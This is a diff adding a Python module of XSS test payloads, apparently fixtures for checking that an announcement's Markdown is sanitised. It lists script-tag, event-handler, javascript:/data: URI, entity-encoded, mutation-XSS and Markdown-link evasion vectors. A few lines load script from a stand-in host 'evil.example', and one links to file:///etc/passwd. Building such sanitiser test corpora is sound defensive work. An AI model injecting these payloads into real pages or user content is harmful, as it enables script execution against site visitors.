@@ -1,0 +1,177 @@
+"""XSS payloads an announcement's author could write, drawn from the OWASP XSS filter evasion cheat
+sheet, PortSwigger's XSS cheat sheet, known mutation-XSS (mXSS) bypasses and Markdown-specific
+vectors. Each is (id, Markdown): the id names the test case."""
+
+from __future__ import annotations
+
+B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
+ENTITY_JS = "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"  # javascript:
+LONG_ENTITY_JS = "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
+HEX_ENTITY_JS = "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A"
+
+SCRIPT_TAGS: list[tuple[str, str]] = [
+    ("script", "<script>alert(1)</script>"),
+    ("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
+    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
+    ("script-src", "<script src=//evil.example/x.js></script>"),
+    ("script-slash-attr", '<script/xss src="http://evil.example/x.js"></script>'),
+    ("script-double-open", "<<script>alert(1);//<</script>"),
+    ("script-fromcharcode", "<script>alert(String.fromCharCode(88,83,83))</script>"),
+    ("script-nested-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
+    ("script-newline-in-tag", "<script\n>alert(1)</script\n>"),
+    ("script-close-then-open", "</script><script>alert(1)</script>"),
+    ("script-percent-encoded", "%3Cscript%3Ealert(1)%3C/script%3E"),
+    ("script-named-entities", "&lt;script&gt;alert(1)&lt;/script&gt;"),
+    ("script-decimal-entities", "&#60;script&#62;alert(1)&#60;/script&#62;"),
+    ("script-js-escapes", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"),
+    ("script-fullwidth", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
+    ("script-null-byte", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
+    ("attribute-breakout", '"><script>alert(1)</script>'),
+    ("owasp-locator", "'';!--\"<XSS>=&{()}"),
+    ("template-script", "<template><script>alert(1)</script></template>"),
+    ("xmp", "<xmp><img src=x onerror=alert(1)></xmp>"),
+    ("plaintext", "<plaintext><img src=x onerror=alert(1)>"),
+]
+
+EVENT_HANDLERS: list[tuple[str, str]] = [
+    ("img-onerror", "<img src=x onerror=alert(1)>"),
+    ("img-src-javascript", "<IMG SRC=\"javascript:alert('XSS');\">"),
+    ("img-src-javascript-unquoted", "<IMG SRC=javascript:alert('XSS')>"),
+    ("img-long-entities", f"<IMG SRC={LONG_ENTITY_JS}&#0000116&#0000058alert(1)>"),
+    ("img-hex-entities", f"<IMG SRC={HEX_ENTITY_JS}alert(1)>"),
+    ("img-quote-confusion", '<img """><script>alert(1)</script>">'),
+    ("img-backtick", "<img src=`x`onerror=alert(1)>"),
+    ("img-slashes", "<img/src=x/onerror=alert(1)>"),
+    ("img-eval-src", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
+    ("svg-onload", "<svg onload=alert(1)>"),
+    ("svg-script", "<svg><script>alert(1)</script></svg>"),
+    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
+    ("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>'),
+    ("body-onload", "<body onload=alert(1)>"),
+    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
+    ("select-autofocus", "<select autofocus onfocus=alert(1)>"),
+    ("textarea-autofocus", "<textarea autofocus onfocus=alert(1)>"),
+    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
+    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
+    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
+    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
+    ("custom-element", "<x onmouseover=alert(1)>hover me</x>"),
+    ("p-slash-handler", "<p/onmouseover=alert(1)>x"),
+    ("allowed-tag-handler", "<h1 onclick=alert(1)>x</h1>"),
+    ("ol-start-breakout", '<ol start="1" onclick=alert(1)><li>x</li></ol>'),
+    ("anchor-onfocus", '<a href="#" id=x tabindex=1 onfocus=alert(1) autofocus>x</a>'),
+    ("anchor-onclick", '<a href="x" onclick="alert(1)">x</a>'),
+    ("anchor-onmouseover", '<a href="https://ok.example" onmouseover="alert(1)">x</a>'),
+    ("anchor-quote-break", "<a href='https://ok.example' title='x' onmouseover=alert(1)//'>x</a>"),
+    ("anchor-no-space-attr", '<a title="x"onmouseover="alert(1)">x</a>'),
+    ("isindex", "<isindex type=image src=1 onerror=alert(1)>"),
+]
+
+EMBEDDING: list[tuple[str, str]] = [
+    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
+    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
+    ("object-javascript", '<object data="javascript:alert(1)"></object>'),
+    ("object-data-uri", f'<object data="data:text/html;base64,{B64_SCRIPT}"></object>'),
+    ("embed-data-uri", f'<embed src="data:text/html;base64,{B64_SCRIPT}">'),
+    ("form-action", "<form action=javascript:alert(1)><input type=submit></form>"),
+    ("button-formaction", "<form><button formaction=javascript:alert(1)>x</button></form>"),
+    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
+    ("meta-refresh-data", f'<meta http-equiv="refresh" content="0;url=data:text/html;base64,{B64_SCRIPT}">'),
+    ("base-href", '<base href="javascript:alert(1)//">'),
+    ("link-stylesheet", '<link rel=stylesheet href="javascript:alert(1)">'),
+    ("table-background", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'),
+]
+
+STYLES_AND_MXSS: list[tuple[str, str]] = [
+    ("style-import", "<style>@import 'javascript:alert(1)';</style>"),
+    ("style-url", '<style>body{background:url("javascript:alert(1)")}</style>'),
+    ("style-attr-expression", '<div style="width: expression(alert(1))">x</div>'),
+    ("style-attr-url", '<p style="background-image:url(javascript:alert(1))">x</p>'),
+    ("style-animation", "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(1)>"),
+    (
+        "mxss-math-mglyph-style",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
+        "</style></mglyph></table></mtext></math>",
+    ),
+    ("mxss-math-xlink", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
+    ("mxss-noscript-title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
+    ("mxss-svg-style", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
+    ("mxss-form-nesting", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
+    ("comment-open-close", "<!--><script>alert(1)</script>-->"),
+    ("comment-bang-close", "<!-- --!><script>alert(1)</script> -->"),
+    ("comment-in-attr", '<a title="<!--" href="x">--><script>alert(1)</script>'),
+    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
+    ("xml-pi", '<?xml version="1.0"?><script>alert(1)</script>'),
+    ("doctype", "<!DOCTYPE html><script>alert(1)</script>"),
+]
+
+RAW_LINKS: list[tuple[str, str]] = [
+    ("a-javascript", '<a href="javascript:alert(1)">x</a>'),
+    ("a-javascript-mixed-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
+    ("a-javascript-tab", '<a href="java\tscript:alert(1)">x</a>'),
+    ("a-javascript-newline", '<a href="java\nscript:alert(1)">x</a>'),
+    ("a-javascript-tab-entity", '<a href="java&#x09;script:alert(1)">x</a>'),
+    ("a-javascript-newline-entity", '<a href="java&#x0A;script:alert(1)">x</a>'),
+    ("a-javascript-leading-junk", '<a href=" &#14; javascript:alert(1)">x</a>'),
+    ("a-javascript-hex-entity", '<a href="&#x6A;avascript:alert(1)">x</a>'),
+    ("a-javascript-all-entities", f'<a href="{ENTITY_JS}alert(1)">x</a>'),
+    ("a-data-uri", f'<a href="data:text/html;base64,{B64_SCRIPT}">x</a>'),
+    ("a-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
+    ("a-target-rel-override", '<a href="/x" target="_self" rel="opener">x</a>'),
+]
+
+MARKDOWN: list[tuple[str, str]] = [
+    ("md-link-javascript", "[x](javascript:alert(1))"),
+    ("md-link-javascript-upper", "[x](JAVASCRIPT:alert(1))"),
+    ("md-link-entity", "[x](&#106;avascript:alert(1))"),
+    ("md-link-hex-entity", "[x](&#x6A;avascript:alert(1))"),
+    ("md-link-all-entities", f"[x]({ENTITY_JS}alert(1))"),
+    ("md-link-colon-entity", "[x](javascript&colon;alert(1))"),
+    ("md-link-mid-entity", "[x](javas&#99;ript:alert(1))"),
+    ("md-link-newline-entity", "[x](jav&#x0A;ascript:alert(1))"),
+    ("md-link-angle", "[x](<javascript:alert(1)>)"),
+    ("md-link-angle-spaces", "[x](< javascript:alert(1)>)"),
+    ("md-link-percent-tab", "[x](java%09script:alert(1))"),
+    ("md-link-backslash", "[x](\\javascript:alert(1))"),
+    ("md-link-control-char", "[x](\x01javascript:alert(1))"),
+    ("md-link-line-separator", "[x](\u2028javascript:alert(1))"),
+    ("md-link-data", f"[x](data:text/html;base64,{B64_SCRIPT})"),
+    ("md-link-vbscript", "[x](vbscript:msgbox(1))"),
+    ("md-link-file", "[x](file:///etc/passwd)"),
+    ("md-reference", "[x][1]\n\n[1]: javascript:alert(1)"),
+    ("md-reference-title", '[x][r]\n\n[r]: https://a.b "\\" onclick=\\"alert(1)"'),
+    ("md-autolink-javascript", "<javascript:alert(1)>"),
+    ("md-autolink-vbscript", "<vbscript:msgbox(1)>"),
+    ("md-autolink-data", "<data:text/html,<script>alert(1)</script>>"),
+    ("md-autolink-quote", '<https://a.b/"onmouseover="alert(1)>'),
+    ("md-image-javascript", "![x](javascript:alert(1))"),
+    ("md-image-onerror", '![x](x" onerror="alert(1))'),
+    ("md-image-tracking", "![pixel](https://tracker.example/p.gif)"),
+    ("md-title-double-quote", '[x](https://a.b "\\" onmouseover=\\"alert(1)")'),
+    ("md-title-single-quote", "[x](https://a.b 'x\\' onmouseover=alert(1) ')"),
+    ("md-title-parens", '[x](https://a.b (title" onmouseover="alert(1)))'),
+    ("md-url-quote", '[x](https://a.b"onmouseover="alert(1))'),
+    ("md-url-script", '[x](https://a.b/"><script>alert(1)</script>)'),
+    ("md-mailto-script", '[x](mailto:a@b.c?subject="><script>alert(1)</script>)'),
+    ("md-nested-link", "[[x](javascript:alert(1))](https://a.b)"),
+    ("md-html-in-link-text", "[<img src=x onerror=alert(1)>](https://a.b)"),
+    ("md-anchor-in-link-text", '[<a href="javascript:alert(1)">x</a>](https://a.b)'),
+    ("md-html-after-link", "[x](https://a.b)<img src=x onerror=alert(1)>"),
+    ("md-code-span", "`<script>alert(1)</script>`"),
+    ("md-fenced-code", "```html\n<script>alert(1)</script>\n```"),
+    ("md-fenced-code-info", '```"><script>alert(1)</script>\nx\n```'),
+    ("md-indented-code", "    <script>alert(1)</script>"),
+    ("md-table", "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |"),
+    ("md-table-link", "| a |\n|---|\n| [x](javascript:alert(1)) |"),
+    ("md-blockquote-iframe", "> <iframe src=javascript:alert(1)>"),
+    ("md-list-svg", "- <svg onload=alert(1)>\n- two"),
+    ("md-heading-script", "# <script>alert(1)</script>"),
+    ("md-html-block", "<div>\n\n**<script>alert(1)</script>**\n\n</div>"),
+    ("md-bold-img", "**bold<img src=x onerror=alert(1)>**"),
+    ("md-setext-heading", "<script>alert(1)</script>\n==="),
+    ("md-escaped-brackets", "\\<script\\>alert(1)\\</script\\>"),
+]
+
+PAYLOADS: list[tuple[str, str]] = (
+    SCRIPT_TAGS + EVENT_HANDLERS + EMBEDDING + STYLES_AND_MXSS + RAW_LINKS + MARKDOWN
+)
